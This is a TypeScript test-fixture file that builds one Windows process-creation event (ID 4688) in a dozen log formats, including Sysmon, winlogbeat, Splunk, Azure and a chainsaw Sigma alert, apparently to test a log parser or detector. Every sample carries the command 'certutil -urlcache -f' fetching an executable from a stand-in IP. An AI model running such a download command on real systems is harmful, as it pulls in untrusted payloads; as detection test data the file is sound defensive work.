import { at, iso, json, lines, type Sample, START } from "./sample.ts";

const DATA = {
  SubjectUserName: "lena",
  SubjectDomainName: "NORTH",
  NewProcessName: "C:\\Windows\\System32\\certutil.exe",
  CommandLine: "certutil -urlcache -f http://203.0.113.8/p.exe p.exe",
  ParentProcessName: "C:\\Windows\\System32\\cmd.exe",
};
const common = {
  events: 1,
  type: "winsec",
  says: ["-urlcache -f http://203.0.113.8", "NORTH\\lena", "PC-4", "4688"],
  first: START,
};

function evtxRecord(index = 0): Record<string, unknown> {
  return {
    Event: {
      "#attributes": { xmlns: "http://schemas.microsoft.com/win/2004/08/events/event" },
      System: {
        Provider: { "#attributes": { Name: "Microsoft-Windows-Security-Auditing", Guid: "{1}" } },
        EventID: 4688,
        TimeCreated: { "#attributes": { SystemTime: iso(index) } },
        EventRecordID: 900 + index,
        Channel: "Security",
        Computer: "PC-4.north.example",
        Security: null,
      },
      EventData: DATA,
    },
  };
}

function separateAttributes(): Record<string, unknown> {
  return {
    Event_attributes: { xmlns: "x" },
    Event: {
      System: {
        Provider_attributes: { Name: "Microsoft-Windows-Security-Auditing" },
        EventID: 4688,
        EventID_attributes: { Qualifiers: "" },
        TimeCreated_attributes: { SystemTime: iso(0) },
        Channel: "Security",
        Computer: "PC-4",
      },
      EventData: DATA,
    },
  };
}

function namedData(): Record<string, unknown> {
  return {
    Event: {
      System: {
        Provider: { "@Name": "Microsoft-Windows-Security-Auditing" },
        EventID: { "#text": "4688", "@Qualifiers": "0" },
        TimeCreated: { "@SystemTime": iso(0) },
        Channel: "Security",
        Computer: "PC-4",
      },
      EventData: {
        Data: Object.entries(DATA).map(([name, value]) => ({ "@Name": name, "#text": value })),
      },
    },
  };
}

export function beatRecord(index = 0): Record<string, unknown> {
  return {
    "@timestamp": iso(index),
    agent: { type: "winlogbeat", version: "8.12.0" },
    host: { name: "PC-4" },
    log: { level: "information" },
    event: { code: "4688", kind: "event", provider: "Microsoft-Windows-Security-Auditing" },
    message: "A new process has been created.",
    winlog: {
      channel: "Security",
      computer_name: "PC-4.north.example",
      event_id: "4688",
      provider_name: "Microsoft-Windows-Security-Auditing",
      record_id: 900 + index,
      event_data: DATA,
    },
  };
}

function flattened(): Record<string, unknown> {
  return {
    "@timestamp": iso(0),
    "host.name": "PC-4",
    "event.code": "4688",
    "winlog.channel": "Security",
    "winlog.event_id": "4688",
    "winlog.computer_name": "PC-4",
    ...Object.fromEntries(
      Object.entries(DATA).map(([name, value]) => [`winlog.event_data.${name}`, value]),
    ),
  };
}

const XML = `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Security-Auditing' Guid='{1}'/><EventID>4688</EventID><TimeCreated SystemTime='${iso(0)}'/><EventRecordID>900</EventRecordID><Channel>Security</Channel><Computer>PC-4</Computer><Security/></System><EventData>${Object.entries(
  DATA,
)
  .map(([name, value]) => `<Data Name='${name}'>${value.replaceAll("&", "&amp;")}</Data>`)
  .join("")}</EventData></Event>`;

export const WINDOWS_SAMPLES: readonly Sample[] = [
  {
    name: "Sysmon, which runs as the system and tells what others do",
    schema: "windows-evtx",
    documents: [
      json({
        Event: {
          System: {
            Provider: { "#attributes": { Name: "Microsoft-Windows-Sysmon" } },
            EventID: 1,
            TimeCreated: { "#attributes": { SystemTime: iso(0) } },
            Channel: "Microsoft-Windows-Sysmon/Operational",
            Computer: "PC-4",
            Security: { "#attributes": { UserID: "S-1-5-18" } },
          },
          EventData: {
            Image: DATA.NewProcessName,
            CommandLine: DATA.CommandLine,
            ParentImage: DATA.ParentProcessName,
            User: "NORTH\\lena",
          },
        },
      }),
    ],
    events: 1,
    type: "winsec",
    says: ["users: NORTH\\lena", "-urlcache -f http://203.0.113.8"],
    first: START,
  },
  { ...common, name: "evtx_dump", schema: "windows-evtx", documents: [json(evtxRecord())] },
  {
    ...common,
    name: "evtx_dump, attributes apart",
    schema: "windows-evtx",
    documents: [json(separateAttributes())],
  },
  { ...common, name: "xmltodict", schema: "windows-evtx", documents: [json(namedData())] },
  { ...common, name: "winlogbeat", schema: "winlogbeat", documents: [json(beatRecord())] },
  {
    ...common,
    name: "winlogbeat, fields flattened",
    schema: "winlogbeat",
    documents: [json(flattened())],
  },
  {
    ...common,
    name: "winlogbeat 6",
    schema: "winlogbeat",
    documents: [
      json({
        "@timestamp": iso(0),
        type: "wineventlog",
        log_name: "Security",
        source_name: "Microsoft-Windows-Security-Auditing",
        event_id: 4688,
        computer_name: "PC-4",
        event_data: DATA,
      }),
    ],
  },
  {
    ...common,
    name: "chainsaw, hunt",
    schema: "chainsaw",
    alerts: 1,
    documents: [
      json([
        {
          group: "Sigma",
          kind: "individual",
          name: "Download by certutil",
          level: "high",
          timestamp: iso(0),
          document: { kind: "evtx", path: "Security.evtx", data: evtxRecord() },
        },
      ]),
    ],
  },
  {
    ...common,
    name: "nxlog",
    schema: "windows-flat",
    documents: [
      json({
        EventTime: iso(0).slice(0, 19).replace("T", " "),
        Hostname: "PC-4",
        EventType: "AUDIT_SUCCESS",
        SeverityValue: 2,
        EventID: 4688,
        SourceName: "Microsoft-Windows-Security-Auditing",
        Channel: "Security",
        RecordNumber: 900,
        Message: "A new process has been created.",
        EventReceivedTime: iso(1),
        SourceModuleType: "im_msvistalog",
        ...DATA,
      }),
    ],
  },
  {
    ...common,
    name: "Azure SecurityEvent",
    schema: "azure-securityevent",
    documents: [
      json({
        TenantId: "t",
        TimeGenerated: iso(0),
        Computer: "PC-4",
        EventID: 4688,
        Channel: "Security",
        EventSourceName: "Microsoft-Windows-Security-Auditing",
        Activity: "4688 - A new process has been created.",
        Type: "SecurityEvent",
        ...DATA,
      }),
    ],
  },
  {
    ...common,
    name: "Get-WinEvent",
    schema: "get-winevent",
    says: ["-urlcache -f http://203.0.113.8", "PC-4", "4688"],
    documents: [
      json({
        Id: 4688,
        LogName: "Security",
        ProviderName: "Microsoft-Windows-Security-Auditing",
        MachineName: "PC-4",
        TimeCreated: `/Date(${at(0)})/`,
        RecordId: 900,
        Message: `A new process has been created.\r\n\r\nProcess Information:\r\n\tNew Process Name:\t${DATA.NewProcessName}\r\n\tProcess Command Line:\t${DATA.CommandLine}\r\n`,
      }),
    ],
  },
  {
    ...common,
    name: "text of an event, as Splunk keeps it",
    schema: "windows-text",
    documents: [
      json({
        preview: false,
        result: {
          _time: iso(0),
          host: "PC-4",
          source: "WinEventLog:Security",
          _raw: `03/04/2025 06:06:07 AM\nLogName=Security\nSourceName=Microsoft Windows security auditing.\nEventCode=4688\nEventType=0\nComputerName=PC-4.north.example\nRecordNumber=900\nMessage=A new process has been created.\n\nCreator Subject:\n\tAccount Name:\t\tlena\n\tAccount Domain:\t\tNORTH\n\nProcess Information:\n\tNew Process Name:\t${DATA.NewProcessName}\n\tCreator Process Name:\t${DATA.ParentProcessName}\n\tProcess Command Line:\t${DATA.CommandLine}\n`,
        },
      }),
    ],
    says: ["-urlcache -f http://203.0.113.8", "PC-4", "4688"],
  },
  {
    ...common,
    name: "XML of an event, as Splunk keeps it",
    schema: "windows-xml",
    documents: lines(XML),
  },
];
